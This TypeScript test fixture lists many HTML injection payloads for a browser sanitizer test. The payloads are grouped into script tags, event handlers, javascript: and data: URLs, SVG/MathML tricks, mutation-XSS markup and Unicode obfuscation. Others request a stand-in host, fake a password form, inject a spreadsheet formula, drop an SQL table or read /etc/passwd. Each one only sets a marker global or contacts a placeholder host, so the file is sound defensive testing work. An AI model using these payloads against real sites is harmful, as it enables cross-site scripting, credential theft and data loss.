/**
 * Texts that would run, load or take over something if a page trusted them. Each one calls `MARK` when it runs, or
 * requests an address that contains `MARK`. A browser test can then check that there is no global of this name and no
 * such request. Grouped by target: script and handlers, addresses, foreign elements, style, broken and nested markup,
 * entities, frames and forms, templates, Unicode characters, formats that other programs read.
 */

/** Code that runs sets `window[MARK]`; anything that loads requests `https://<MARK>.example`. */
export const MARK = 'injected_by_test';

const RUN = `window.${MARK}=1`;
const AWAY = `https://${MARK}.example`;

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}/a.js"></script>`,
  `<SCRIPT>${RUN}</SCRIPT >`,
  `<script\n>${RUN}</script\t>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">${RUN}</script>`,
  `<script>/*<p>*/${RUN}//</p></script>`,
  `"><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea></style></noscript><script>${RUN}</script>`,
  `<<script>${RUN};//<</script>`,
  `<script/x>${RUN}</script>`,
] as const;

const HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR="${RUN}">`,
  `<img src="x\`> <img src=y onerror=${RUN}>\`">`,
  `<img """><img src=x onerror=${RUN}>">`,
  `<body onload="${RUN}">`,
  `<p onmouseover="${RUN}" onfocus="${RUN}" tabindex=0 autofocus>p</p>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>s</summary></details>`,
  `<video src=x onerror="${RUN}"></video>`,
  `<audio><source onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">m</marquee>`,
  `<p style="animation:x 1s" onanimationstart="${RUN}">p</p>`,
  `<a href="https://ok.example" onclick="${RUN}">a</a>`,
  `<p/onpointerenter=${RUN}>p</p>`,
  `<p title="a" title='" onmouseover="${RUN}'>p</p>`,
] as const;

const ADDRESSES = [
  `<a href="javascript:${RUN}">a</a>`,
  `<a href="JaVaScRiPt:${RUN}">a</a>`,
  `<a href=" \u0001javascript:${RUN}">a</a>`,
  `<a href="java\tscript:${RUN}">a</a>`,
  `<a href="java\nscript:${RUN}">a</a>`,
  `<a href="&#106;avascript:${RUN}">a</a>`,
  `<a href="&#x6A;&#x61;vascript&colon;${RUN}">a</a>`,
  `<a href="javascript&#58;${RUN}">a</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">a</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>`,
  `<a href="vbscript:${RUN}">a</a>`,
  `<a href="//${MARK}.example">a</a>`,
  `<a href="\\\\${MARK}.example">a</a>`,
  `<a href="blob:${AWAY}/1">a</a>`,
  `<a href="file:///etc/passwd">a</a>`,
  `<img src="${AWAY}/pixel.png">`,
  `<img src="//${MARK}.example/pixel.png">`,
  `<img src="data:image/svg+xml,<svg onload='${RUN}'/>">`,
  `<img src="javascript:${RUN}">`,
  `<img srcset="${AWAY}/a.png 1x, ${AWAY}/b.png 2x" src="x">`,
  `<img src="/api/content/image/../../../admin/api/me">`,
  `<img src="/api/user/logout">`,
  `<picture><source srcset="${AWAY}/p.webp"><img src=x></picture>`,
  `<a ping="${AWAY}" href="https://ok.example">a</a>`,
] as const;

const FOREIGN = [
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">t</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="${AWAY}/s.svg#a"></use></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">m</math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
] as const;

const STYLES = [
  `<style>@import "${AWAY}/s.css";</style>`,
  `<style>*{background:url(${AWAY}/b.png)}</style>`,
  `<p style="background:url(${AWAY}/b.png)">p</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;background:red">Your session has ended</p>`,
  `<link rel="stylesheet" href="${AWAY}/s.css">`,
  `<link rel="preload" as="image" href="${AWAY}/p.png">`,
  `<p class="fixed inset-0" id="root">p</p>`,
  `<table background="${AWAY}/b.png"><tr><td>t</td></tr></table>`,
] as const;

/** Harmless to a filter that parses once, but different when a browser parses the filter's output. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<p title="</p><img src=x onerror=${RUN}>">p</p>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}></style></mglyph></form></mtext></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></style></svg>`,
  `<a href="x"></p><table><td><a href="javascript:${RUN}">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<template><script>${RUN}</script></template>`,
  `<p><template shadowrootmode="open"><img src=x onerror=${RUN}></template></p>`,
  `<plaintext><img src=x onerror=${RUN}>`,
] as const;

const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3C;img src=x onerror=${RUN}&#x3E;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `<\u200Bscript>${RUN}</script>`,
  `<img src=x onerror\u00A0=${RUN}>`,
  `\u202E>tpircs/<1=x>tpircs<\u202C`,
] as const;

const FRAMES = [
  `<iframe src="${AWAY}"></iframe>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${MARK}=1"></iframe>`,
  `<object data="${AWAY}/o.html"></object>`,
  `<embed src="${AWAY}/e.html">`,
  `<frameset onload="${RUN}"><frame src="${AWAY}"></frameset>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<form action="${AWAY}"><input name="password"><button>Log in</button></form>`,
  `<button formaction="javascript:${RUN}" form="f">b</button><form id="f"></form>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<portal src="${AWAY}"></portal>`,
  `<dialog open>Enter your password</dialog>`,
] as const;

/** Against templates, formulas and queries. */
const OTHER_READERS = [
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `=HYPERLINK("${AWAY}","a")`,
  `'; DROP TABLE news; --`,
  `javascript:${RUN}`,
] as const;

/** Every one of them. */
export const INJECTIONS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...FOREIGN,
  ...STYLES,
  ...MUTATIONS,
  ...ENTITIES,
  ...FRAMES,
  ...OTHER_READERS,
];
